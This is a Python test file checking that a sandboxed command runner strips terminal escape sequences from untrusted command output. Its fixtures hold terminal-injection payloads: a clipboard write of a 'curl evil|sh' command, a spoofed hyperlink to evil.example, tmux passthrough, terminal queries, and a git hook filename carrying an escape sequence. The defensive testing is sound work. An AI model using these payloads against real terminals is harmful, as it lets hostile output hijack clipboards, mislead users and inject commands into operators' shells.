"""Round 19, interfaces: ``shellrt run`` passed a hostile command's escape sequences to the
operator's terminal, outside the sandbox.

OSC 52 wrote the clipboard (``curl …|sh``, to be pasted later), OSC 0 set the window title, OSC
8 made a link whose text lies, a DCS string (tmux passthrough) carried any sequence past a
multiplexer, and queries (cursor report, DA, window report) made the terminal type its answer
into the operator's shell once the command had ended. On a terminal they are now left out
(`shellrt.cli._tty_filter`), colours and the cursor moves of progress bars kept, and a line on
stderr says so; a pipe still gets every byte. The real CLI with its stdout and stderr on a pty
of the test's own (nothing reaches a real terminal); both the lean local path and the supervisor
path (``--json`` off, ``--sandbox local`` and ``bwrap``).
"""

from __future__ import annotations

import os
import pty
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests._pty import read_terminal
from tests.conftest import require

_ROOT = Path(__file__).resolve().parents[1]
#: What the hostile command prints: each part acts on a terminal except the text and the colour.
_HOSTILE = (
    r"printf 'one \033[31mred\033[0m\n'; "
    r"printf '\033]52;c;Y3VybCBldmlsfHNo\007'; "
    r"printf '\033]0;all tests passed\007'; "
    r"printf '\033]8;;http://evil.example/\033\\docs.python.org\033]8;;\033\\\n'; "
    r"printf '\033Ptmux;\033\033]52;c;eA==\007\033\\'; "
    r"printf '\033[6n\033[c\033[21t\302\2336n'; "
    r"printf 'two\n' >&2"
)


def _on_a_pty(args: list[str], tmp_path: Path) -> tuple[bytes, int]:
    main, side = pty.openpty()
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(_ROOT), os.environ.get("PYTHONPATH")])), "HOME": str(tmp_path / "home"),
           "XDG_STATE_HOME": str(tmp_path / "state")}
    (tmp_path / "home").mkdir(exist_ok=True)
    proc = subprocess.Popen([sys.executable, "-m", "shellrt", "run", *args, "--", _HOSTILE],
                            stdin=subprocess.DEVNULL, stdout=side, stderr=side, env=env,
                            cwd=tmp_path)
    os.close(side)
    seen = read_terminal(main, proc, timeout_s=60)
    return seen, proc.returncode


@pytest.mark.parametrize("sandbox", ["local", "bwrap"])
def test_run_keeps_sequences_that_act_on_the_terminal_off_it(tmp_path: Path, sandbox: str) -> None:
    if sandbox == "bwrap":
        require(shutil.which("bwrap") is not None, "bubblewrap is not installed (apt-get install bubblewrap)")
    (tmp_path / "ws").mkdir()
    seen, code = _on_a_pty(["--sandbox", sandbox, "--workspace", str(tmp_path / "ws")], tmp_path)
    assert code == 0, seen
    assert b"one \x1b[31mred\x1b[0m" in seen and b"two" in seen and b"docs.python.org" in seen, seen
    for active in (b"\x1b]", b"\x1bP", b"\x1b[6n", b"\x1b[c", b"\x1b[21t", b"\xc2\x9b"):
        assert active not in seen, (active, seen)
    assert b"left out" in seen and b"terminal control sequence" in seen, seen


def test_a_pipe_still_gets_every_byte(tmp_path: Path) -> None:
    (tmp_path / "ws").mkdir()
    (tmp_path / "home").mkdir()
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(_ROOT), os.environ.get("PYTHONPATH")])), "HOME": str(tmp_path / "home")}
    done = subprocess.run(
        [sys.executable, "-m", "shellrt", "run", "--sandbox", "local", "--workspace", str(tmp_path / "ws"),
         "--", _HOSTILE],
        capture_output=True, env=env, timeout=60, check=False,
    )
    assert b"\x1b]52;c;Y3VybCBldmlsfHNo\x07" in done.stdout and b"left out" not in done.stderr, done


@pytest.mark.parametrize("sandbox", ["local", "bwrap"])
def test_a_reverted_files_name_is_escaped_in_the_note(tmp_path: Path, sandbox: str) -> None:
    """shellrt's own note on a planted hook named the command's file raw: its name is the command's
    to choose (an OSC 52 there wrote the clipboard from shellrt's own stderr line, even piped)."""
    if sandbox == "bwrap":
        require(shutil.which("bwrap") is not None, "bubblewrap is not installed (apt-get install bubblewrap)")
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / "home").mkdir()
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(_ROOT), os.environ.get("PYTHONPATH")])),
           "HOME": str(tmp_path / "home")}
    plant = r"""printf '#!/bin/sh\n' > ".git/hooks/post-$(printf '\033]52;c;ZXZpbA==\007')x"; chmod +x .git/hooks/*"""
    done = subprocess.run(
        [sys.executable, "-m", "shellrt", "run", "--sandbox", sandbox, "--workspace", str(ws), "--", plant],
        capture_output=True, env=env, timeout=60, check=False,
    )
    assert b"reverted" in done.stderr, done
    assert b"\x1b" not in done.stderr and b"\x07" not in done.stderr, done.stderr
    assert b"post-\\x1b]52;c;ZXZpbA==\\x07x" in done.stderr, done.stderr
